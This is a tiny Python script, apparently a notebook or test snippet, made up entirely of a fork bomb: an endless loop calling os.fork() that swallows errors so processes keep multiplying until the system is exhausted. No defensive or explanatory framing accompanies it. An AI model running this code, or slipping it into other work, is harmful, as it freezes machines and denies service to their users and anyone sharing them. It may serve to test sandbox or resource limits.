# Doubles for as long as it can.
# %% base
# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
